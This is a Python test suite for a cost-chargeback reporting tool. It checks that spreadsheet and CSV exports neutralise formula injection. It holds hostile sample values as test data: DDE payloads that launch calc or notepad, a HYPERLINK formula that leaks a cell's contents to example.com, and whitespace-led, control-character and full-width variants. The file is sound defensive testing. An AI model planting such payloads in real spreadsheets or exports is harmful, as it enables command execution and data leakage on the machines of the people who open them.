"""The files people open are safe to open: landed text never becomes a spreadsheet formula.

One landing set puts hostile text (formulas, a DDE payload, a hyperlink that leaks a cell,
full-width and white-space-led variants, a control character, a mathtext label) in every text
field a caller controls: the tags (team, product, environment, scenario, cost center), the API
key, provider and model ids, request, unit, trace, response and prompt template ids, the user
id, an invoice's id and line descriptions, and a platform cost's description. One build; then
the month-end pack (workbook and CSV files) and the FOCUS export are written from it and every
cell and field is read back: no formula cell, no text that a spreadsheet would evaluate, and
the numbers still numbers (a credit stays a negative number, never text).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from chargeback.focus.export import export_periods
from chargeback.report.__main__ import write_pack
from chargeback.safe_text import (
    csv_field,
    neutralise,
    neutralise_csv_file,
    starts_a_formula,
    workbook_value,
)
from harness import INVOICE_HEADER, Warehouse, build, project_copy, write_jsonl

LOOSE = {
    "chargeback__min_tagged_spend_share": 0,
    "chargeback__max_unpriced_share": 1,
    "chargeback__max_quarantine_share": 1,
}
PERIOD = date(2026, 10, 1)
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"details")'
# A spreadsheet reads a cell as a formula when its text starts with one of these (full-width
# variants included), also after leading white space or control characters.
FORMULA_FIRST = set("=+-@\t\r\n\0") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}
LEADING = re.compile(r"[\s\x00-\x1f\x7f]*")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][+-]?\d+)?")

HOSTILE = {
    "team": DDE,
    "product": "+SUM(1,2)",
    "environment": "-2+3",
    "scenario": "@SUM(A1:A9)",
    "cost_center": HYPERLINK,
    "api_key_id": "=key|'/C notepad'!A0",
    "model": "=gpt-4o-mini+1",
    "request_id": "-req-1",
    "unit_id": "\t=1+1",
    "trace_id": "\r=1+1",
    "provider_response_id": "  =1+1",
    "user_id": "@alice",
}
PROMPT_BEFORE = "welcome-v1"
PROMPT_AFTER = "=1+1 $\\frac{$"  # also invalid mathtext: the unit-cost chart draws it
INVOICE_ID = '=HYPERLINK("http://example.com","invoice")'
CREDIT_DESCRIPTION = "\uff1d1+1 service credit"  # full-width equals sign
FEE_DESCRIPTION = "\x01=1+1 support fee"  # a control character first
POOL_DESCRIPTION = "-1+1 gateway hosting"


def call(number: int, day: int, **fields: Any) -> dict[str, Any]:
    record = {
        "request_id": f"safe-{number}",
        "occurred_at": f"2026-10-{day:02d}T10:00:00Z",
        "provider": "openai",
        "model": "gpt-4o-mini",
        "api_key_id": "key_sales_prod",
        "status_code": 200,
        "attempt_number": 1,
        "input_tokens": 20_000,
        "output_tokens": 2_000,
        "team": "sales",
        "product": "sales_copilot",
        "environment": "prod",
        "scenario": "email_draft",
        "prompt_template_id": PROMPT_BEFORE if day <= 10 else PROMPT_AFTER,
    }
    record.update(fields)
    return record


def records() -> list[dict[str, Any]]:
    """Good calls every day (the prompt template changes on the 11th), then one call per
    hostile field, one with every hostile field at once and one from a hostile provider."""
    good = [call(number, 1 + number % 28) for number in range(56)]
    one_each = [
        call(100 + number, 12, **{field: value})
        for number, (field, value) in enumerate(HOSTILE.items())
    ]
    all_at_once = [
        call(200 + n, 14 + n, **{**HOSTILE, "request_id": f"{DDE}-{n}"}) for n in range(4)
    ]
    provider = [call(300, 15, provider="@provider", request_id="hostile-provider")]
    return good + one_each + all_at_once + provider


def write_rows(path: Path, header: list[str], rows: list[list[str]]) -> None:
    """A CSV file quoted as an exporting system quotes it (the values hold commas, quotes)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


INVOICE = [INVOICE_ID, "openai", "2026-10-01", "2026-11-01"]
INVOICE_LINES = [
    [*INVOICE, "1", "usage", "gpt-4o-mini", "input", "1000000", "tokens", "0.15", "USD", "usage"],
    [*INVOICE, "2", CREDIT_DESCRIPTION, "", "", "", "", "-0.05", "USD", "credit"],
    [*INVOICE, "3", FEE_DESCRIPTION, "", "", "", "", "0.02", "USD", "fee"],
]


def land(warehouse: Warehouse) -> None:
    write_jsonl(warehouse.landing / "gateway_requests" / "dt=2026-10" / "part-0.jsonl", records())
    write_rows(warehouse.landing / "invoices" / "openai_2026-10.csv", INVOICE_HEADER, INVOICE_LINES)
    write_rows(
        warehouse.landing / "platform_costs" / "2026-10.csv",
        ["period_month", "cost_pool", "amount", "currency", "description"],
        [["2026-10-01", "gateway_hosting", "120.00", "USD", POOL_DESCRIPTION]],
    )


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("safe")
    warehouse = project_copy(root)
    land(warehouse)
    build(warehouse, variables=LOOSE)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CHARGEBACK_DUCKDB_PATH", str(warehouse.database))
        patch.setenv("CHARGEBACK_LANDING_DIR", str(warehouse.landing))
        workbook = write_pack(warehouse.root, PERIOD, root / "reports", warehouse.database)
    focus = root / "focus"
    export_periods(warehouse.database, focus)
    return {"warehouse": warehouse, "workbook": workbook, "focus": focus}


def evaluated(text: str) -> bool:
    """What a spreadsheet would take for a formula: the test's own reading of the rule."""
    if not text:
        return False
    match = LEADING.match(text)
    position = match.end() if match else 0
    return text[0] in FORMULA_FIRST or (position < len(text) and text[position] in FORMULA_FIRST)


def csv_fields(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def pack_csvs(outputs: dict[str, Any]) -> list[Path]:
    return sorted((outputs["workbook"].parent / "csv").glob("*.csv"))


def test_no_workbook_cell_is_a_formula_or_text_a_spreadsheet_would_evaluate(
    outputs: dict[str, Any],
) -> None:
    workbook = load_workbook(outputs["workbook"])
    text_cells = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    text_cells += 1
                    assert not evaluated(cell.value), f"{sheet.title}!{cell.coordinate}"
    assert text_cells > 300
    with zipfile.ZipFile(outputs["workbook"]) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in book.read(name) for name in sheets)


def test_the_hostile_tags_reach_the_pack_neutralised(outputs: dict[str, Any]) -> None:
    workbook = load_workbook(outputs["workbook"])
    unallocated = {
        cell for row in workbook["Unallocated"].iter_rows(values_only=True) for cell in row
    }
    assert "'" + DDE in unallocated  # the team tag seen most on the key, and suggested owner
    assert "'" + HOSTILE["api_key_id"] in unallocated
    reconciliation = {
        cell for row in workbook["Reconciliation"].iter_rows(values_only=True) for cell in row
    }
    assert "'" + INVOICE_ID in reconciliation
    unallocated_csv = {
        field
        for row in csv_fields(outputs["workbook"].parent / "csv" / "unallocated.csv")
        for field in row
    }
    assert {"'" + DDE, "'" + HOSTILE["api_key_id"]} <= unallocated_csv
    # the unit-cost chart drew the hostile prompt template as plain text, without failing
    changes = outputs["warehouse"].query(
        "select changed_to from marts.fct_scenario_changes where change_type = 'prompt_template'"
    )
    assert (PROMPT_AFTER,) in changes
    assert (outputs["workbook"].parent / "charts" / "unit_cost.png").stat().st_size > 0


def test_no_pack_csv_field_starts_a_formula_and_amounts_stay_numbers(
    outputs: dict[str, Any],
) -> None:
    files = pack_csvs(outputs)
    sheets = load_workbook(outputs["workbook"], read_only=True).sheetnames
    assert len(files) == len(sheets) > 10  # one a sheet
    negative_amounts = 0
    for path in files:
        for row in csv_fields(path):
            for field in row:
                if PLAIN_NUMBER.fullmatch(field):
                    negative_amounts += field.startswith("-")
                    continue
                assert not evaluated(field), f"{path.name}: {field!r}"
    assert negative_amounts > 0  # the credit and the variance parts: numbers, not text
    raw = (outputs["workbook"].parent / "csv" / "reconciliation.csv").read_text()
    credit = outputs["warehouse"].scalar(
        "select explained_credits from marts.fct_invoice_reconciliation"
        " where provider = 'openai' and billing_period_start = '2026-10-01'"
    )
    assert Decimal(credit) < 0 and f",{Decimal(credit).quantize(Decimal('0.01'))}," in raw


def test_negative_amounts_in_the_workbook_are_numbers(outputs: dict[str, Any]) -> None:
    sheet = load_workbook(outputs["workbook"])["Reconciliation"]
    rows = list(sheet.iter_rows(min_row=9))
    head = next(row for row in rows if row[0].value == "provider")
    credits = next(cell.column for cell in head if cell.value == "explained_credits")
    openai = next(row for row in rows if row[0].value == "openai")
    cell = openai[credits - 1]
    assert cell.data_type == "n" and cell.value < 0


def test_no_focus_csv_field_starts_a_formula_and_the_parquet_keeps_the_exact_text(
    outputs: dict[str, Any],
) -> None:
    files = sorted(outputs["focus"].glob("*.csv"))
    assert files
    fields: set[str] = set()
    for path in files:
        for row in csv_fields(path):
            for field in row:
                fields.add(field)
                if not PLAIN_NUMBER.fullmatch(field):
                    assert not evaluated(field), f"{path.name}: {field!r}"
    # the key (ResourceId), the model (x_ModelId), the provider and the invoice's lines and
    # the pool's description (ChargeDescription) reached the export, neutralised
    reached = (
        HOSTILE["api_key_id"], HOSTILE["model"], "@provider", CREDIT_DESCRIPTION,
        FEE_DESCRIPTION, POOL_DESCRIPTION,
    )  # fmt: skip
    for hostile in reached:
        assert any(field.startswith(neutralise(hostile)) for field in fields), hostile
    parquet = {
        value
        for path in outputs["focus"].glob("*.parquet")
        for value in pq.read_table(path, columns=["ResourceId"]).column(0).to_pylist()
    }
    assert HOSTILE["api_key_id"] in parquet  # typed data for tools: the exact value


def test_the_rule_on_single_values() -> None:
    for text in ("=1+1", "+1", "-x", "@x", "\t1", "\r1", "\n1", "\0x", "\uff1d1", " =1", "\x01=1"):
        assert starts_a_formula(text) and neutralise(text) == "'" + text
    for text in ("", "sales", "a=1", "'=1", "1-2", "team-a"):
        assert not starts_a_formula(text) and neutralise(text) == text
    assert csv_field("=1,2") == '"\'=1,2"'
    assert csv_field('say "hi"') == '"say ""hi"""'
    assert csv_field(Decimal("-12.50")) == "-12.50"
    assert csv_field(None) == ""
    assert csv_field(3.5, "3.5") == "3.5"
    assert workbook_value("=1\x02") == "'=1\ufffd"
    assert workbook_value(Decimal("-1")) == Decimal("-1")


def test_a_csv_another_tool_wrote_is_neutralised_in_place_numbers_kept(tmp_path: Path) -> None:
    path = tmp_path / "saved_query.csv"
    path.write_text("metric_time__month,team,total_charge\n2026-10-01,=cmd|x,-12.5\n,@t,3e-07\n")
    assert neutralise_csv_file(path) == 2
    rows = list(csv.reader(io.StringIO(path.read_text())))
    assert rows[1] == ["2026-10-01", "'=cmd|x", "-12.5"]
    assert rows[2] == ["", "'@t", "3e-07"]
    assert neutralise_csv_file(path) == 0  # a second pass changes nothing
